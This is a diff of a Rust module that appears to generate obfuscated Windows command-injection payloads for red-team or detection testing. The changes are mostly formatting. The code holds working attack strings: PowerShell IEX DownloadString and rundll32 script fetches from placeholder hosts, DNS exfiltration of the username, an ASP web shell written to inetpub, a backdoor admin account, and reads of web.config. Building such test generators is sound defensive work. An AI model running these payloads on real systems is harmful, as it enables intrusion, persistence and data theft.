@@ -5,7 +5,7 @@
 //! string concatenation, backtick escapes, `-f` format strings, `[char]` codes, random case)
 //! × a transport layer.
 
-use super::redteam_cmdi_unix::base64;
+use crate::mutate::base64;
 use crate::mutate::{join, random_case, transport_layer};
 use crate::{Carrier, Family, Rng, Variant};
 
@@ -21,7 +21,14 @@ fn cmd_command(rng: &mut Rng, names: &mut Vec<&'static str>) -> String {
         1 => rng.pick(&["whoami /priv", "whoami /all", "hostname"]).to_string(),
         2 => "ipconfig /all".into(),
         3 => rng.pick(&["dir c:\\", "dir C:\\Users", "dir /s /b c:\\inetpub"]).to_string(),
-        4 => rng.pick(&["type C:\\windows\\win.ini", "type c:\\boot.ini", "type C:\\inetpub\\wwwroot\\web.config", "type %SYSTEMROOT%\\system32\\drivers\\etc\\hosts"]).to_string(),
+        4 => rng
+            .pick(&[
+                "type C:\\windows\\win.ini",
+                "type c:\\boot.ini",
+                "type C:\\inetpub\\wwwroot\\web.config",
+                "type %SYSTEMROOT%\\system32\\drivers\\etc\\hosts",
+            ])
+            .to_string(),
         5 => rng.pick(&["net user", "net localgroup administrators", "net user hacker P@ss123 /add"]).to_string(),
         6 => "systeminfo".into(),
         7 => rng.pick(&["tasklist", "tasklist /v", "netstat -ano"]).to_string(),
@@ -43,7 +50,9 @@ fn cmd_command(rng: &mut Rng, names: &mut Vec<&'static str>) -> String {
         17 => "echo ^<%eval request(\"x\")%^> > C:\\inetpub\\wwwroot\\x.asp".into(),
         18 => format!("nslookup %USERNAME%.{host}"),
         19 => "FOR /F \"tokens=*\" %i IN ('whoami') DO @echo %i".into(),
-        20 => format!("rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";document.write();GetObject(\"script:http://{host}/x\")"),
+        20 => {
+            format!("rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";document.write();GetObject(\"script:http://{host}/x\")")
+        }
         _ => "set".into(),
     }
 }
@@ -51,7 +60,8 @@ fn cmd_command(rng: &mut Rng, names: &mut Vec<&'static str>) -> String {
 fn powershell(rng: &mut Rng, names: &mut Vec<&'static str>) -> String {
     names.push("powershell");
     let host = *rng.pick(HOSTS);
-    let exe = *rng.pick(&["powershell", "powershell.exe", "pwsh", "PowerShell -nop -w hidden", "powershell -NoP -NonI -W Hidden -Exec Bypass"]);
+    let exe =
+        *rng.pick(&["powershell", "powershell.exe", "pwsh", "PowerShell -nop -w hidden", "powershell -NoP -NonI -W Hidden -Exec Bypass"]);
     match rng.below(9) {
         0 => format!("{exe} -c \"IEX(New-Object Net.WebClient).DownloadString('http://{host}/a.ps1')\""),
         1 => {
@@ -106,7 +116,10 @@ fn obfuscate_cmd(rng: &mut Rng, cmd: &str, names: &mut Vec<&'static str>) -> Str
         }
         5 => {
             names.push("comspec");
-            format!("{} /c {cmd}", rng.pick(&["%COMSPEC%", "cmd", "cmd.exe", "C:\\Windows\\System32\\cmd.exe", "%SystemRoot%\\system32\\cmd.exe", "c^m^d"]))
+            format!(
+                "{} /c {cmd}",
+                rng.pick(&["%COMSPEC%", "cmd", "cmd.exe", "C:\\Windows\\System32\\cmd.exe", "%SystemRoot%\\system32\\cmd.exe", "c^m^d"])
+            )
         }
         6 => {
             names.push("var-slice");
